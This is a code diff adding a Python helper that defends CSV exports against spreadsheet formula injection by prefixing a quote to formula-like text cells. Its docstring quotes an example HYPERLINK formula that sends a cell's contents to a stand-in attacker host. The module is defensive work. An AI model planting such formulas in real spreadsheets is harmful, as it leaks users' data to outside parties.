@@ -1,0 +1,26 @@
+"""CSV cells that a spreadsheet shows as text, whatever someone typed into them.
+
+A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
+read as a formula by Excel, LibreOffice and Google Sheets: a resident's answer or
+name such as ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would run in the
+organiser's spreadsheet. Such a cell is written with a leading ``'`` (the usual
+defence, as ``bot/web/csv_export.py`` does); numbers are left alone.
+"""
+
+from __future__ import annotations
+
+import re
+
+_FORMULA = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
+
+
+def cell(value: object) -> object:
+    """``value`` as a CSV writer should get it: text that would be a formula is quoted."""
+    if isinstance(value, str) and value.startswith(_FORMULA) and not _NUMBER.match(value):
+        return "'" + value
+    return value
+
+
+def row(values: list[object] | tuple[object, ...]) -> list[object]:
+    return [cell(v) for v in values]
